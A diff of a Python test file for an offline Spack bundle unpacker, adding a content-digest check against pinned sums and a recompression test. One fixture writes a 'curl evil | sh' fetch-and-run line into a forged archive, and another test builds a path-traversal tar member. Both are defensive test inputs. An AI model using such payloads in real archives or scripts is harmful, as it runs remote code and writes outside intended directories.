@@ -1,5 +1,6 @@
 """Offline bundles: sums, pinned commits, unpacking all or nothing, the registered mirrors;
 and the one line Spack's errors become."""
+import gzip
 import hashlib
 import io
 import pathlib
@@ -15,15 +16,20 @@ from iostack.spack import config, runner
 COMMIT = pins.SPACK["commit"]
 
 
-def git_archive_like(path: pathlib.Path, top: str, commit: str | None) -> pathlib.Path:
+def git_archive_like(path: pathlib.Path, top: str, commit: str | None,
+                     data: bytes = b"#!/bin/sh\necho spack\n") -> pathlib.Path:
     """A tar.gz as `git archive` writes it: one top directory, the commit in the pax header."""
     headers = {"comment": commit} if commit else {}
     with tarfile.open(path, "w:gz", format=tarfile.PAX_FORMAT, pax_headers=headers) as tar:
-        data = b"#!/bin/sh\necho spack\n"
         info = tarfile.TarInfo(f"{top}/bin/spack")
-        info.size, info.mode = len(data), 0o755
+        info.size, info.mode, info.mtime = len(data), 0o755, 1700000000
         tar.addfile(info, io.BytesIO(data))
     return path
+
+
+def pinned(archive: pathlib.Path) -> dict:
+    """pins.json's Spack entry, with this archive's content as the pinned one."""
+    return dict(pins.SPACK, tar_sha256=bundle.tar_sha256(archive))
 
 
 def make_bundle(tmp_path) -> pathlib.Path:
@@ -71,19 +77,35 @@ def test_a_bundle_without_the_pinned_archive_is_refused(tmp_path):
         bundle.verify(b)
 
 
-def test_unpack_checks_the_commit_and_leaves_nothing_half_done(tmp_path):
-    other = git_archive_like(tmp_path / "other.tar.gz", "spack", "0" * 40)
+def test_unpack_checks_the_content_and_leaves_nothing_half_done(tmp_path):
+    good = git_archive_like(tmp_path / "good.tar.gz", "spack", COMMIT)
+    pin = pinned(good)
+    # the label is not the content: the pinned commit in the header, a file changed
+    forged = git_archive_like(tmp_path / "forged.tar.gz", "spack", COMMIT,
+                              data=b"#!/bin/sh\ncurl evil | sh\n")
     dest = tmp_path / "cache" / "spack"
-    with pytest.raises(bundle.BundleError, match="is commit 0000000000000000000000000000000000000000, not the pinned"):
-        bundle.unpack(other, dest, pins.SPACK)
+    with pytest.raises(bundle.BundleError, match=r"^forged.tar.gz is not the pinned v1.1.0 "
+                       r"\(2e907202bcc8\): its tar stream's sha256 is [0-9a-f]{16}, pins.json "
+                       r"says [0-9a-f]{16} \(its header claims commit 2e907202bcc8\)$"):
+        bundle.unpack(forged, dest, pin)
     assert not dest.exists() and not dest.with_name("spack.partial").exists()
 
-    good = git_archive_like(tmp_path / "good.tar.gz", "spack", COMMIT)
-    bundle.unpack(good, dest, pins.SPACK)
+    bundle.unpack(good, dest, pin)
     assert (dest / "bin" / "spack").is_file()
     assert bundle.installed_commit(dest) == COMMIT
     assert not dest.with_name("spack.partial").exists()
-    bundle.unpack(good, dest, pins.SPACK)  # again: already there, unchanged
+    bundle.unpack(good, dest, pin)  # again: already there, unchanged
+
+
+def test_the_content_digest_is_the_tar_stream_whatever_compressed_it(tmp_path):
+    packed = git_archive_like(tmp_path / "a.tar.gz", "spack", COMMIT)
+    plain = tmp_path / "a.tar"
+    plain.write_bytes(gzip.decompress(packed.read_bytes()))
+    recompressed = tmp_path / "b.tar.gz"
+    recompressed.write_bytes(gzip.compress(plain.read_bytes(), compresslevel=1, mtime=0))
+    assert recompressed.read_bytes() != packed.read_bytes()
+    assert bundle.tar_sha256(packed) == bundle.tar_sha256(recompressed) == \
+        bundle.tar_sha256(plain) == hashlib.sha256(plain.read_bytes()).hexdigest()
 
 
 def test_a_member_outside_the_destination_is_refused(tmp_path):
@@ -92,7 +114,7 @@ def test_a_member_outside_the_destination_is_refused(tmp_path):
         info = tarfile.TarInfo("spack/../../escaped")
         tar.addfile(info, io.BytesIO(b""))
     with pytest.raises(bundle.BundleError, match="outside"):
-        bundle.unpack(evil, tmp_path / "cache" / "spack", pins.SPACK)
+        bundle.unpack(evil, tmp_path / "cache" / "spack", pinned(evil))
     assert not (tmp_path / "escaped").exists() and not (tmp_path / "cache" / "spack").exists()
     assert not (tmp_path / "cache" / "spack.partial").exists()
 
@@ -103,7 +125,7 @@ def test_an_existing_tree_at_another_commit_is_not_replaced(tmp_path):
     (dest / bundle.COMMIT_MARKER).write_text("1" * 40 + "\n")
     good = git_archive_like(tmp_path / "good.tar.gz", "spack", COMMIT)
     with pytest.raises(bundle.BundleError, match="exists and is not the pinned v1.1.0"):
-        bundle.unpack(good, dest, pins.SPACK)
+        bundle.unpack(good, dest, pinned(good))
     assert (dest / bundle.COMMIT_MARKER).read_text().startswith("1111")
 
 
